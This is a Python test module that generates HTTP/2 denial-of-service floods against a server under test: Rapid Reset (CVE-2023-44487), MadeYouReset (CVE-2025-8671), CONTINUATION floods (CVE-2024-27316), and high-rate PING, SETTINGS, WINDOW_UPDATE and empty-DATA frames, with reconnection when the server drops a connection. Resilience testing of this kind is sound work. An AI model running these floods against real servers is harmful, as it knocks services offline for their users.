"""Frames that cost their sender little and are many."""

import time
from collections.abc import Callable

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.attack.attack import Attack
from tests.attack.attacker import Attacker, data, paced
from tests.attack.honest import CLIENT_STREAM, UNARY
from tests.attack.process import Place, Report, by

Turn = Callable[[Attacker, int], bytes]  # makes so many frames


def flood(at: Place, kind: str, rate: float, connections: int = 1) -> Report:
    """Sends so many a second over all connections; opens another where the server has closed one."""
    turn, attackers = TURNS[kind], [Attacker(at.target, token=at.token) for _ in range(connections)]
    sent = blocked = closed = 0
    for number, due in enumerate(paced(rate, at.seconds)):
        place = number % connections
        one = attackers[place]
        try:
            one.send_bytes(turn(one, due))
            sent += due
        except TimeoutError:
            blocked += 1
        except OSError:
            one.gone = True
        if one.gone:
            closed += 1
            one.close()
            attackers[place] = _another(at, one)
    return {"sent": sent, "blocked": blocked, "closed": closed}


def _another(at: Place, last: Attacker) -> Attacker:
    try:
        return Attacker(at.target, token=at.token)
    except OSError:
        time.sleep(0.1)
        return last


def _resets(one: Attacker, due: int) -> bytes:
    """Calls that are reset at once (CVE-2023-44487)."""
    block = one.block(UNARY)
    sent = bytearray()
    for _ in range(due):
        frame = one.headers(block)
        reset = RstStreamFrame(frame.stream_id, 8)  # CANCEL
        one.open.pop(frame.stream_id, None)
        sent += frame.serialize() + reset.serialize()
    return bytes(sent)


def _provoked(one: Attacker, due: int) -> bytes:
    """Calls that the server must reset itself, as their messages are malformed (CVE-2025-8671)."""
    block = one.block(UNARY)
    sent = bytearray()
    for _ in range(due):
        frame = one.headers(block)
        one.open.pop(frame.stream_id, None)
        sent += frame.serialize() + data(frame.stream_id, b"", compressed=255).serialize()
    return bytes(sent)


def _continuations(one: Attacker, due: int) -> bytes:
    """Headers that do not end (CVE-2024-27316 and others)."""
    if not one.open:
        frame = HeadersFrame(one.stream(), one.block(UNARY))
        one.send(frame)
    [stream] = one.open
    block = one.block(UNARY, **{f"x-{due}": "y" * 200})
    return b"".join(ContinuationFrame(stream, block).serialize() for _ in range(due))


def _on_a_stream(make: Callable[[int], bytes]) -> Turn:
    """Frames of a stream, which is opened again where it has ended."""

    def turn(one: Attacker, due: int) -> bytes:
        if not one.open:
            one.begin(CLIENT_STREAM, 1)
        return make(next(iter(one.open))) * due

    return turn


TURNS: dict[str, Turn] = {
    "resets": _resets,
    "provoked": _provoked,
    "continuations": _continuations,
    "pings": lambda _one, due: PingFrame(0, b"ping" * 2).serialize() * due,
    "settings": lambda _one, due: SettingsFrame(settings={4: 65535}).serialize() * due,
    "updates": lambda _one, due: WindowUpdateFrame(0, window_increment=1).serialize() * due,
    "stream updates": _on_a_stream(lambda stream: WindowUpdateFrame(stream, window_increment=1).serialize()),
    "empty": _on_a_stream(lambda stream: DataFrame(stream, b"").serialize()),
    # Of an endless message: a byte of it in each frame.
    "bytes": _on_a_stream(lambda stream: DataFrame(stream, b"\0").serialize()),
}


def _flood(
    title: str, kind: str, rate: float, *, number: str = "", connections: int = 1, **how: bool
) -> Attack:
    return Attack(number, title, by(flood, kind=kind, rate=rate, connections=connections), **how)  # type: ignore[arg-type]


ATTACKS = (
    _flood("8,000 calls a second that are reset, one connection", "resets", 8000, number="6"),
    _flood("the same over 4 connections", "resets", 8000, number="6", connections=4),
    _flood("4,000 calls a second that the server must reset (MadeYouReset)", "provoked", 4000, short=True),
    _flood("4,000 CONTINUATION frames a second", "continuations", 4000, short=True),
    _flood("20,000 PING frames a second", "pings", 20000),
    _flood("20,000 SETTINGS frames a second", "settings", 20000, short=True),
    _flood("20,000 WINDOW_UPDATE frames a second", "updates", 20000),
    _flood("20,000 WINDOW_UPDATE frames a second of a stream", "stream updates", 20000),
    _flood("20,000 empty DATA frames a second", "empty", 20000, short=True),
    _flood("20,000 DATA frames of a byte a second", "bytes", 20000),
)
